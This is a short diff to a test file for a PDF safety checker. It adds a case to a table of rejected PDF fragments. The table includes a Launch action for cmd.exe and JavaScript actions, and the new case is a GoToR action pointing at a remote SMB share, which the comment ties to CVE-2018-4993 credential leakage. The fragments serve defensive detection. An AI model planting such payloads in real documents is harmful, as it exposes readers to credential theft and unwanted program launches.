@@ -50,6 +50,8 @@ describe('a PDF that does more than paper is not safe', () => {
     ['a script of a rendition', aPdf('/AA << /S /Rendition /JS (x) >>')],
     ['a name right at a bracket', aPdf('/Names<</JavaScript<<>>>>')],
     ['a program to launch', aPdf('/OpenAction << /S /Launch /F (cmd.exe) >>')],
+    // a Windows reader that opens it logs in at the stranger's server (CVE-2018-4993)
+    ['a jump into a file on another machine', aPdf('/AA << /O << /S /GoToR /D [0 /Fit] /F (//10.0.0.1/share) >> >>')],
     ['an embedded file', aPdf('/Names << /EmbeddedFiles << >> >>')],
     ['an attachment', aPdf('', [aPdfStream('/Type /EmbeddedFile', Buffer.from('x'))])],
     ['rich media', aPdf('/Annots [ << /Subtype /RichMedia >> ]')],
